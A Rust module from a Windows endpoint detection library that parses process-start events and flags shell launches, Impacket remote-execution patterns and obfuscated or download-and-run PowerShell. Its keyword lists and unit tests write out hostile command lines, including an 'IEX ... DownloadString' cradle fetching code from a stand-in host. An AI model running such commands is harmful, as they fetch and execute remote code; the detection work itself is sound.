//! Programs and command lines, as detectors look at them.

use std::collections::VecDeque;

use kilroy_model::{Action, Timestamp};

use crate::Observation;
use crate::powershell::Asked;

/// A process that was started.
#[derive(Debug, Clone)]
pub(crate) struct Started<'a> {
    /// Path of the program, as logged.
    pub(crate) image: &'a str,
    /// Name of the program, in small letters.
    pub(crate) name: String,
    pub(crate) command: Option<&'a str>,
    /// Name of the program that started it, in small letters, if the record tells.
    pub(crate) parent: Option<String>,
}

impl<'a> Started<'a> {
    pub(crate) fn of(event: &'a Observation) -> Option<Self> {
        if event.action != Some(Action::ProcessStarted) {
            return None;
        }
        let image = event.process.image.as_deref()?;
        Some(Self {
            image,
            name: file_name(image).to_lowercase(),
            command: event.process.command_line.as_deref(),
            parent: event.process.parent_image.as_deref().map(|parent| file_name(parent).to_lowercase()),
        })
    }

    /// The command line, else the path.
    pub(crate) fn line(&self) -> &'a str {
        self.command.filter(|line| !line.trim().is_empty()).unwrap_or(self.image)
    }

    /// Windows starts these by itself beside others. What bears their name and lies elsewhere is something else.
    pub(crate) fn is_bystander(&self) -> bool {
        let is_named = matches!(
            self.name.as_str(),
            "conhost.exe"
                | "werfault.exe"
                | "wermgr.exe"
                | "taskhostw.exe"
                | "taskhost.exe"
                | "dwm.exe"
                | "svchost.exe"
        );
        is_named && is_of_windows(self.image)
    }

    /// Does it run what it is told to: a shell, or a program of Windows that runs others' code?
    pub(crate) fn is_shell(&self) -> bool {
        is_shell(&self.name)
    }
}

/// Tells a process that two logs have (4688 and Sysmon 1) from two processes.
#[derive(Debug, Default)]
pub(crate) struct Twins(VecDeque<(Timestamp, String, u64, String)>);

/// Two logs note the start of a process within some milliseconds; on a loaded machine within a second.
const TWIN_MILLIS: u64 = 2_000;
/// Starts of all hosts that are remembered for that time.
const MOST_TWINS: usize = 256;

impl Twins {
    /// Was this process told of already?
    pub(crate) fn told(&mut self, event: &Observation, started: &Started<'_>) -> bool {
        let Some(pid) = event.process.pid else { return false };
        while self.0.len() >= MOST_TWINS
            || self.0.front().is_some_and(|(time, ..)| !time.within_millis(event.time, TWIN_MILLIS))
        {
            self.0.pop_front();
        }
        let is_it = |(_, host, number, name): &(Timestamp, String, u64, String)| {
            *number == pid && *name == started.name && *host == event.host
        };
        if self.0.iter().any(is_it) {
            return true;
        }
        self.0.push_back((event.time, event.host.clone(), pid, started.name.clone()));
        false
    }
}

/// The last part of a path.
pub fn file_name(path: &str) -> &str {
    path.rsplit(['\\', '/']).next().unwrap_or(path).trim_matches('"')
}

/// Does the program lie where Windows keeps its own? A name without a folder may.
fn is_of_windows(path: &str) -> bool {
    let path = path.to_lowercase();
    let folder = path.strip_suffix(file_name(&path)).unwrap_or(&path);
    let parts: Vec<&str> = below_drive(folder).trim_matches('\\').split('\\').collect();
    // Of some processes the root is logged as a link: `\SystemRoot\System32\…`.
    folder.is_empty() || matches!(parts[..], ["windows" | "winnt" | "systemroot", "system32" | "syswow64"])
}

/// A path without its drive: `C:`, `\Device\HarddiskVolume2`.
pub(crate) fn below_drive(path: &str) -> &str {
    let path = path.strip_prefix("\\??\\").or_else(|| path.strip_prefix("\\\\?\\")).unwrap_or(path);
    let drive = path.split_once(':').filter(|(drive, _)| drive.len() == 1).map(|(_, rest)| rest);
    let volume = || {
        let rest = path.strip_prefix("\\device\\harddiskvolume")?;
        rest.find('\\').and_then(|at| rest.get(at..))
    };
    drive.or_else(volume).unwrap_or(path)
}

/// The program that a command line names, in small letters: what stands in quotes, else all up to a blank. A path with
/// blanks and no quotes is not known from its first words; nothing here asks for one.
pub(crate) fn program_of(line: &str) -> String {
    let line = line.trim_start();
    let program = match line.strip_prefix('"') {
        Some(quoted) => quoted.split('"').next().unwrap_or(quoted),
        None => line.split([' ', '\t']).next().unwrap_or(line),
    };
    program.trim().to_lowercase()
}

fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "cmd.exe"
            | "powershell.exe"
            | "pwsh.exe"
            | "wscript.exe"
            | "cscript.exe"
            | "mshta.exe"
            | "rundll32.exe"
            | "regsvr32.exe"
            | "installutil.exe"
            | "msbuild.exe"
            | "certutil.exe"
            | "bitsadmin.exe"
    )
}

/// A command whose output goes to a share of the machine itself, from where whoever sent it fetches it: the way of
/// Impacket's wmiexec, smbexec, dcomexec and atexec.
pub(crate) fn sends_output_back(line: &str) -> bool {
    let line = line.to_lowercase();
    let to_itself = line.contains("\\\\127.0.0.1\\") || line.contains("\\\\localhost\\");
    to_itself && (line.contains("$\\__") || line.contains('>'))
}

/// Impacket's smbexec: a service writes each command to a file that a shell runs, `cmd /Q /c echo dir ^> \\127.0.0.1\C$\__output …`.
pub(crate) fn is_smbexec(line: &str) -> bool {
    let line = line.to_lowercase();
    line.contains("/q /c echo ") && line.contains("\\__output")
}

/// A command that hides what it does, or brings its code along.
pub(crate) fn hides(line: &str) -> bool {
    Asked::of(line).hides() || brings_code(line)
}

/// A command that fetches or unpacks the code that it runs.
pub(crate) fn brings_code(line: &str) -> bool {
    const SIGNS: [&str; 6] =
        ["frombase64string", "downloadstring", "iex(", "iex (", "invoke-expression", "gzipstream"];
    let line = line.to_lowercase();
    SIGNS.iter().any(|sign| line.contains(sign))
}

/// A service or task whose program is a command line for a shell: no product installs that.
pub(crate) fn runs_a_shell(line: &str) -> bool {
    let line = line.to_lowercase();
    let first = line.trim_start_matches(['"', ' ']);
    let first = first.split([' ', '"']).next().unwrap_or(first);
    // Sysmon doubles the signs.
    first == "%comspec%"
        || first == "%%comspec%%"
        || is_shell(file_name(first))
        || is_shell(&format!("{}.exe", file_name(first)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ways_of_known_tools() {
        assert!(sends_output_back(r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1619090610.0007844 2>&1"));
        assert!(sends_output_back(r"%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\x.bat"));
        assert!(!sends_output_back(r"robocopy C:\a \\127.0.0.1\share\b"));
        assert!(runs_a_shell(r"%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden"));
        assert!(runs_a_shell(r#""C:\Windows\System32\cmd.exe" /c x"#));
        assert!(!runs_a_shell(r"C:\Program Files\Vendor\service.exe -k"));
        assert!(hides("powershell -nop -w hidden -c x") && hides("powershell -nop -wi 1 -c x"));
        assert!(hides("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\""));
        assert!(!hides("tool.exe -w hidden -enc x"));
        assert_eq!(file_name(r"C:\Windows\System32\cmd.exe"), "cmd.exe");
    }
}
